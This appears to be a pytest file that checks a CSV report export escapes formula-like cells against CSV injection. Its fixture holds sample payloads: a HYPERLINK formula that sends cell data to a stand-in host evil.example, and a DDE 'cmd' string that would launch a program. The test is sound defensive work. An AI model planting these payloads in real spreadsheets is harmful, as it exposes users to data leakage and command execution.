"""The statistics CSV never hands Excel a formula (OWASP's CSV injection rule).

Experts' names, titles and departments are typed by admins and config; a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, in the one
helper that both ``smscat report`` (:func:`write_csv`) and the admin's download
(:func:`month_csv`) use: the two files are the same bytes.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smscat.relay.services.oversight import month_csv
from smscat.relay.services.reporting import (
    FORMULA_START,
    csv_bytes,
    month_report,
    spreadsheet_text,
    write_csv,
)
from smscat.storage.db import Database, ExpertRow

HOSTILE = ExpertRow(
    "evil",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "+8613800138007",
    None,
)
PLAIN = ExpertRow("zhang", "张明", "主任医师", "心血管内科", "+8613800138001", None)


def cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_text(start: str) -> None:
    assert spreadsheet_text(start + "1+1") == "'" + start + "1+1"


@given(st.text())
def test_every_cell_is_kept_and_none_starts_like_a_formula(text: str) -> None:
    safe = spreadsheet_text(text)
    assert not safe.startswith(FORMULA_START)
    assert safe in (text, "'" + text)


async def test_report_and_download_escape_what_an_admin_typed(tmp_path: Path) -> None:
    async with Database.open(tmp_path / "smscat.db") as db:
        await db.sync_experts([HOSTILE, PLAIN], at=datetime(2026, 10, 1, tzinfo=UTC))
        report = await month_report(db, "2026-11", timezone="Asia/Shanghai", department="=1+1")
    write_csv(report, tmp_path / "report.csv")
    written = (tmp_path / "report.csv").read_bytes()
    assert written == month_csv(report) == csv_bytes(report)  # one file, one helper
    assert b"\r\n" in written
    rows = cells(written)
    evil = next(r for r in rows if "HYPERLINK" in r[0])
    assert evil[:3] == ["'" + HOSTILE.name, "'" + HOSTILE.title, "'+1-2"]
    assert rows[-1][2] == "'=1+1"  # the department's total row
    assert next(r for r in rows if r[0] == "张明")[:3] == ["张明", "主任医师", "心血管内科"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
